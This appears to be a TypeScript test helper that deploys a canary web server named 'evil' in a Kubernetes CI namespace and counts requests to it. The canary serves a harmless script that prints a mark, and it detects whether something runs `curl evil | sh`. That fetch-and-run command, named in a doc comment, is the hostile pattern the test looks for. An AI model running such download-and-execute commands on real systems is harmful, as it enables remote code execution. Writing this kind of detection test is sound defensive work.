import type { Kubectl } from './kubectl';
import { podsReady } from './pods';
import { namespaces, type Settings } from './settings';

const namespace = namespaces.ci;
const name = 'evil';

/**
 * A web server with the name `evil` beside the pipeline's pods: who runs `curl evil | sh` there is seen by it, and
 * leaves the mark in its log.
 */
export class Canary {
  /** What the script that it serves would print: no text of the script itself. */
  static readonly mark = 'executed-1764';

  private constructor(private readonly kubectl: Kubectl) {}

  static async start(kubectl: Kubectl, settings: Settings): Promise<Canary> {
    const labels = { app: name };
    const serve = [
      'mkdir /tmp/www',
      "echo 'echo executed-$((42 * 42))' >/tmp/www/index.html",
      'exec httpd -f -vv -p 8080 -h /tmp/www',
    ];
    await kubectl.apply([
      {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name, namespace, labels },
        spec: {
          automountServiceAccountToken: false,
          terminationGracePeriodSeconds: 0,
          containers: [
            {
              name,
              image: settings.images.busybox,
              imagePullPolicy: 'IfNotPresent',
              command: ['sh', '-c', serve.join(' && ')],
              readinessProbe: { tcpSocket: { port: 8080 }, periodSeconds: 1 },
            },
          ],
        },
      },
      {
        apiVersion: 'v1',
        kind: 'Service',
        metadata: { name, namespace, labels },
        spec: { selector: labels, ports: [{ port: 80, targetPort: 8080 }] },
      },
    ]);
    await podsReady(kubectl, namespace, [name], settings.patience.trigger);
    return new Canary(kubectl);
  }

  /** Its address, from other namespaces. */
  readonly url = `http://${name}.${namespace}`;

  /** How many requests it has answered. */
  async requests(): Promise<number> {
    const log = await this.kubectl.run(['-n', namespace, 'logs', name]);
    return log.split('\n').filter((line) => /url:|response:200/.test(line)).length;
  }
}
